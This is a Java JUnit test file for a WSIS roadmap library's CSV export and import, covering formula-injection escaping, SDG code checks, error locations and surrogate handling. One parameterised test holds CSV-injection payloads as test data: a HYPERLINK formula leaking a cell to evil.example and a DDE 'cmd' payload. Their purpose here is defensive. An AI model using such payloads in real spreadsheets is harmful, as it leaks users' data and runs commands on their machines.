package org.wsis.roadmap.io;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.fasterxml.jackson.core.JsonToken;
import com.fasterxml.jackson.dataformat.csv.CsvFactory;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.wsis.roadmap.ActionLineRoadmap;
import org.wsis.roadmap.Outcome;
import org.wsis.roadmap.Roadmap;
import org.wsis.roadmap.RoadmapException;
import org.wsis.roadmap.SdgLink;
import org.wsis.roadmap.SdgTarget;
import org.wsis.roadmap.TextRef;
import org.wsis.roadmap.Timing;

final class RoadmapCsvTest {
  /** The characters that make a spreadsheet evaluate a cell, after OWASP's CSV injection guidance. */
  static final String FORMULA_STARTS = "=+-@\t\r";

  @TempDir
  Path dir;

  // ---------------------------------------------------------------- formula cells

  @ParameterizedTest
  @ValueSource(strings = {
      "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
      "+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1)",
      "\t=1+1 after a tab",
      "\r=1+1 after a carriage return",
      "'starts with an apostrophe",
      "''two apostrophes",
      "'",
      "'=quoted formula"})
  void writeOutcomes_formulaOrApostropheLedValues_writtenInertAndReadBackExactly(String value) {
    Roadmap roadmap = withFirstOutcome(b -> b.label(value).statement(value).timing(Timing.builder().raw(value).build())
        .sdgRaw(value).references(List.of(TextRef.builder().raw(value).build())));

    String csv = RoadmapCsv.toOutcomesString(roadmap);

    List<List<String>> rows = rawRows(csv);
    List<String> first = rows.get(1);
    for (String column : List.of("label", "statement", "timing", "sdgRaw", "references")) {
      assertThat(first.get(RoadmapCsv.OUTCOME_COLUMNS.indexOf(column))).as(column).isEqualTo("'" + value);
    }
    assertThat(rows).allSatisfy(row -> assertThat(row).allSatisfy(RoadmapCsvTest::assertInert));
    assertThat(RoadmapCsv.readOutcomes(csv)).isEqualTo(OutcomeRow.allOf(roadmap));
  }

  @Test
  void writeOutcomes_plainValues_writtenWithoutApostrophe() {
    Roadmap roadmap = withFirstOutcome(b -> b.statement("Build 2 + 2 = 4 networks; cost -5% @ scale"));

    List<String> first = rawRows(RoadmapCsv.toOutcomesString(roadmap)).get(1);

    assertThat(first.get(RoadmapCsv.OUTCOME_COLUMNS.indexOf("statement")))
        .isEqualTo("Build 2 + 2 = 4 networks; cost -5% @ scale");
  }

  @Test
  void writeSdgLinks_formulaLabel_writtenInert() {
    Roadmap roadmap = withFirstOutcome(b -> b.label("=1+1"));

    List<List<String>> rows = rawRows(RoadmapCsv.toSdgLinksString(roadmap));

    assertThat(rows.get(1).get(RoadmapCsv.SDG_LINK_COLUMNS.indexOf("label"))).isEqualTo("'=1+1");
    assertThat(rows).allSatisfy(row -> assertThat(row).allSatisfy(RoadmapCsvTest::assertInert));
  }

  @Test
  void readOutcomes_formulaCellWithoutApostrophe_readAsItsText() {
    String csv = RoadmapCsv.toOutcomesString(SampleRoadmaps.small())
        .replace("\"Promote cooperation", "\"=Promote cooperation");

    assertThat(RoadmapCsv.readOutcomes(csv).get(0).getStatement()).startsWith("=Promote cooperation");
  }

  @Test
  void writeOutcomes_emptyOptionalValues_readBackPresentAndEmpty() {
    Roadmap roadmap = withFirstOutcome(b -> b.sdgRaw("").timing(Timing.builder().raw("").build())
        .references(List.of(TextRef.builder().raw("").build())));

    List<OutcomeRow> rows = RoadmapCsv.readOutcomes(RoadmapCsv.toOutcomesString(roadmap));

    assertThat(rows.get(0).getSdgRaw()).contains("");
    assertThat(rows.get(0).getTiming()).contains("");
    assertThat(rows.get(0).getReferences()).containsExactly("");
    assertThat(rows.get(1).getSdgRaw()).isEmpty();
    assertThat(rows.get(1).getTiming()).isEmpty();
    assertThat(rows.get(1).getReferences()).isEmpty();
  }

  @Test
  void writeOutcomes_statementWithCrLf_readBackExactly() {
    Roadmap roadmap = withFirstOutcome(b -> b.statement("first\r\nsecond\rthird\n"));

    assertThat(RoadmapCsv.readOutcomes(RoadmapCsv.toOutcomesString(roadmap)).get(0).getStatement())
        .isEqualTo("first\r\nsecond\rthird\n");
  }

  // ---------------------------------------------------------------- codes

  @ParameterizedTest
  @ValueSource(strings = {"9.z", "9.99", "17.20"})
  void readOutcomes_sdgTargetMissingFromCatalogue_throwsLikeTheJsonReader(String code) {
    String csv = RoadmapCsv.toOutcomesString(SampleRoadmaps.small()).replace("\"16, 9.c\"", "\"16, " + code + "\"");

    RoadmapReadException e = catchThrowableOfType(RoadmapReadException.class, () -> RoadmapCsv.readOutcomes(csv));

    assertThat(e.getMessage()).contains("row 1, `sdgLinks`: '" + code + "' is not an SDG target; targets of goal");
    assertThat(e.getPointer()).isEqualTo("/1/sdgLinks");
    assertThat(e.getLine()).isEqualTo(3);
    assertThat(e.getColumn()).isEqualTo(csv.split("\n")[2].indexOf("\"16, ") + 1);
    String json = RoadmapJson.toString(withFirstOutcome(b -> b.sdgLinks(List.of(SdgLink.of(SdgTarget.read(code))))));
    assertThatThrownBy(() -> RoadmapJson.read(json)).isInstanceOf(RoadmapReadException.class)
        .hasMessageContaining("'" + code + "' is not an SDG target");
  }

  @ParameterizedTest
  @ValueSource(strings = {"9.c", "9.1", "9.5", "17.19", "17.1", "16", "4.a"})
  void readOutcomes_sdgCodesOfTheCatalogue_readLikeTheJsonReader(String code) {
    Roadmap roadmap = withFirstOutcome(b -> b.sdgLinks(List.of(SdgLink.parse(code))));

    List<OutcomeRow> rows = RoadmapCsv.readOutcomes(RoadmapCsv.toOutcomesString(roadmap));

    assertThat(rows.get(0).getSdgLinks()).containsExactly(SdgLink.parse(code));
    assertThat(RoadmapJson.read(RoadmapJson.toString(roadmap))).isEqualTo(roadmap);
  }

  // ---------------------------------------------------------------- locations

  @Test
  void readOutcomes_badCountInMultiLineRow_givesTheCellsLineAndColumn() {
    String csv = RoadmapCsv.toOutcomesString(SampleRoadmaps.small()).replace(",1,1,1,1,1\n", ",1,1,x,1,1\n");

    RoadmapReadException e = catchThrowableOfType(RoadmapReadException.class, () -> RoadmapCsv.readOutcomes(csv));

    assertThat(e.getMessage()).startsWith("row 1, `activitiesCount`: a count must be a whole number from 0, but was: 'x'");
    assertThat(e.getPointer()).isEqualTo("/1/activitiesCount");
    String line7 = csv.split("\n")[6];
    assertThat(e.getLine()).isEqualTo(7);
    assertThat(e.getColumn()).isEqualTo(line7.indexOf(",x,") + 2);
  }

  @Test
  void readOutcomes_badSectionInSecondRow_countsRowsFromOne() {
    String csv = RoadmapCsv.toOutcomesString(SampleRoadmaps.small()).replace("C5,WSIS_PLUS_10,a", "C5,NOWHERE,a");

    RoadmapReadException e = catchThrowableOfType(RoadmapReadException.class, () -> RoadmapCsv.readOutcomes(csv));

    assertThat(e.getMessage()).startsWith("row 2, `section`: ");
    assertThat(e.getPointer()).isEqualTo("/2/section");
    assertThat(e.getLine()).isEqualTo(8);
    assertThat(e.getColumn()).isEqualTo("C5.W10.a,C5,".length() + 1);
  }

  @Test
  void readOutcomes_rowTooShort_givesTheRowsLine() {
    String csv = RoadmapCsv.toOutcomesString(SampleRoadmaps.small()) + "a,b\n";

    RoadmapReadException e = catchThrowableOfType(RoadmapReadException.class, () -> RoadmapCsv.readOutcomes(csv));

    assertThat(e.getMessage()).startsWith("row 3: must have 14 cells, but has 2");
    assertThat(e.getPointer()).isEqualTo("/3");
    assertThat(e.getLine()).isEqualTo(9);
    assertThat(e.getColumn()).isEqualTo(1);
  }

  @Test
  void readOutcomes_rowTooLong_pointsAtTheFirstCellTooMany() {
    String base = RoadmapCsv.toOutcomesString(SampleRoadmaps.small());
    String last = base.substring(base.lastIndexOf("C5.W10.a")).strip();
    String csv = base + last + ",extra,more\n";

    RoadmapReadException e = catchThrowableOfType(RoadmapReadException.class, () -> RoadmapCsv.readOutcomes(csv));

    assertThat(e.getMessage()).startsWith("row 3: must have 14 cells, but has 16");
    assertThat(e.getLine()).isEqualTo(9);
    assertThat(e.getColumn()).isEqualTo(last.length() + 2);
  }

  @Test
  void readOutcomes_statementOverTheStringLimit_givesTheCellsLocation() {
    String csv = RoadmapCsv.toOutcomesString(SampleRoadmaps.small())
        .replaceFirst("Renforcer", "z".repeat(ReadLimits.MAX_STRING_LENGTH + 1));

    RoadmapReadException e = catchThrowableOfType(RoadmapReadException.class, () -> RoadmapCsv.readOutcomes(csv));

    assertThat(e.getMessage()).startsWith("row 2, `statement`: the input exceeds a read limit (see ReadLimits)");
    assertThat(e.getPointer()).isEqualTo("/2/statement");
    assertThat(e.getLine()).isEqualTo(8);
    assertThat(e.getColumn()).isEqualTo("C5.W10.a,C5,WSIS_PLUS_10,a,".length() + 1);
  }

  @Test
  void readOutcomes_unclosedQuote_givesTheCellsLocation() {
    String csv = RoadmapCsv.toOutcomesString(SampleRoadmaps.small()) + "C5.GT.B,\"C5,";

    RoadmapReadException e = catchThrowableOfType(RoadmapReadException.class, () -> RoadmapCsv.readOutcomes(csv));

    assertThat(e.getMessage()).startsWith("row 3, `actionLine`: the input is not well-formed: ");
    assertThat(e.getPointer()).isEqualTo("/3/actionLine");
    assertThat(e.getLine()).isEqualTo(9);
    assertThat(e.getColumn()).isEqualTo(9);
  }

  @Test
  void readOutcomes_wrongHeaderAfterComment_givesTheHeadersLine() {
    String csv = "# wsis-roadmap outcomes\nid,label\nC5.GT.A,A\n";

    RoadmapReadException e = catchThrowableOfType(RoadmapReadException.class, () -> RoadmapCsv.readOutcomes(csv));

    assertThat(e.getMessage()).contains("the header row must be");
    assertThat(e.getLine()).isEqualTo(2);
    assertThat(e.getColumn()).isEqualTo(1);
  }

  // ---------------------------------------------------------------- unpaired surrogates

  @Test
  void toOutcomesString_loneSurrogate_throwsNamingOutcomeColumnAndCharacter() {
    Roadmap roadmap = withFirstOutcome(b -> b.statement("ab\uD800cd"));

    assertThatThrownBy(() -> RoadmapCsv.toOutcomesString(roadmap)).isInstanceOf(RoadmapException.class)
        .hasMessage("outcome C5.GT.A, `statement`: a CSV table is UTF-8, which cannot hold an unpaired surrogate,"
            + " but character 3 is \\uD800; JSON and YAML keep it");
  }

  @Test
  void writeSdgLinks_loneLowSurrogateInLabel_throws() {
    Roadmap roadmap = withFirstOutcome(b -> b.label("A\uDC00"));

    assertThatThrownBy(() -> RoadmapCsv.toSdgLinksString(roadmap)).isInstanceOf(RoadmapException.class)
        .hasMessageContaining("outcome C5.GT.A, `label`").hasMessageContaining("character 2 is \\uDC00");
  }

  @Test
  void writeOutcomes_loneSurrogate_leavesTheFileAndStreamUntouched() throws IOException {
    Roadmap roadmap = withFirstOutcome(b -> b.references(List.of(TextRef.builder().raw("\uDBFF").build())));
    Path file = Files.writeString(dir.resolve("old.csv"), "old content");
    ByteArrayOutputStream out = new ByteArrayOutputStream();

    assertThatThrownBy(() -> RoadmapCsv.writeOutcomes(roadmap, file)).isInstanceOf(RoadmapException.class)
        .hasMessageContaining("`references`");
    assertThatThrownBy(() -> RoadmapCsv.writeOutcomes(roadmap, out)).isInstanceOf(RoadmapException.class);

    assertThat(Files.readString(file)).isEqualTo("old content");
    assertThat(out.size()).isZero();
  }

  @Test
  void writeOutcomes_pairedSurrogates_keptExactlyThroughUtf8() throws IOException {
    Roadmap roadmap = withFirstOutcome(b -> b.statement("emoji \uD83D\uDE00 and \uD835\uDC00"));
    Path file = dir.resolve("pairs.csv");

    RoadmapCsv.writeOutcomes(roadmap, file);

    assertThat(RoadmapCsv.readOutcomes(file)).isEqualTo(OutcomeRow.allOf(roadmap));
    assertThat(Files.readString(file, StandardCharsets.UTF_8)).contains("emoji \uD83D\uDE00");
  }

  // ---------------------------------------------------------------- what is not kept

  @Test
  void fieldsNotKept_namesEveryPropertyTheColumnsDoNotHold() {
    assertThat(RoadmapCsv.FIELDS_NOT_KEPT).contains(
        "id", "title", "status", "asOf", "facilitator", "introduction", "mandateReferences", "glossary", "x-*",
        "actionLines[].title", "actionLines[].notes", "actionLines[].source", "actionLines[].x-*",
        "actionLines[] with no outcomes",
        "actionLines[].outcomes[].subItems", "actionLines[].outcomes[].sdgNote", "actionLines[].outcomes[].evidence",
        "actionLines[].outcomes[].results", "actionLines[].outcomes[].covidResponse",
        "actionLines[].outcomes[].source", "actionLines[].outcomes[].x-*",
        "actionLines[].outcomes[].timing.entries", "actionLines[].outcomes[].references[].kind");
    assertThat(RoadmapCsv.FIELDS_NOT_KEPT).doesNotContain("actionLines", "actionLines[].outcomes",
        "actionLines[].actionLine", "actionLines[].outcomes[].id", "actionLines[].outcomes[].statement",
        "actionLines[].outcomes[].label", "actionLines[].outcomes[].section", "actionLines[].outcomes[].timing",
        "actionLines[].outcomes[].sdgLinks", "actionLines[].outcomes[].sdgRaw", "actionLines[].outcomes[].references");
    assertThat(RoadmapCsv.FIELDS_NOT_KEPT).doesNotHaveDuplicates();
  }

  @Test
  void readOutcomes_ofWrittenRoadmap_keepsTheSameRowsWhatEverTheFieldsNotKeptHold() {
    Roadmap small = SampleRoadmaps.small();
    Roadmap stripped = Roadmap.builder().id("other").title("Other").status(small.getStatus())
        .addActionLine(ActionLineRoadmap.builder().from(small.getActionLines().get(0)).title("t").notes(List.of())
            .outcomes(small.getActionLines().get(0).getOutcomes().stream()
                .map(o -> Outcome.builder().from(o).subItems(List.of()).sdgNote(Optional.empty())
                    .covidResponse(Optional.empty()).source(Optional.empty()).build())
                .toList())
            .build())
        .build();

    assertThat(RoadmapCsv.toOutcomesString(stripped)).isEqualTo(RoadmapCsv.toOutcomesString(small));
  }

  // ---------------------------------------------------------------- helpers

  private static void assertInert(String cell) {
    assertThat(cell.isEmpty() || FORMULA_STARTS.indexOf(cell.charAt(0)) < 0)
        .as("cell %s starts with a formula character", cell).isTrue();
  }

  /** The first outcome of the small sample, edited; the second kept as is. */
  static Roadmap withFirstOutcome(Consumer<Outcome.Builder> edit) {
    Roadmap base = SampleRoadmaps.small();
    ActionLineRoadmap line = base.getActionLines().get(0);
    Outcome.Builder b = Outcome.builder();
    b.from(line.getOutcomes().get(0));
    edit.accept(b);
    return Roadmap.builder().from(base)
        .actionLines(List.of(ActionLineRoadmap.builder().from(line)
            .outcomes(List.of(b.build(), line.getOutcomes().get(1))).build()))
        .build();
  }

  /** The cells of a CSV text as a plain CSV reader (and a spreadsheet) sees them, comment lines left out. */
  static List<List<String>> rawRows(String csv) {
    List<List<String>> rows = new ArrayList<>();
    try (CsvParser p = (CsvParser) new CsvFactory().createParser(csv)) {
      p.setSchema(CsvSchema.emptySchema().withComments());
      JsonToken token;
      List<String> row = null;
      while ((token = p.nextToken()) != null) {
        if (token == JsonToken.START_ARRAY) {
          row = new ArrayList<>();
        } else if (token == JsonToken.END_ARRAY) {
          rows.add(row);
        } else {
          row.add(p.getText());
        }
      }
    } catch (IOException e) {
      throw new AssertionError(e);
    }
    return rows;
  }
}
